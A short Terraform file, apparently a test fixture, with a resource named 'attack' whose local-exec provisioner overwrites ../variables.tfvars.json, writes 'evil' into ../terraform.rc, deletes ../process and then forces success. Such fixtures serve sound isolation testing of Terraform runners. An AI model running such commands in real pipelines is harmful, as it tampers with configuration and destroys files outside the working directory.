resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      echo '{}' > ../variables.tfvars.json; echo evil > ../terraform.rc; rm -f ../process; true
    EOT
  }
}
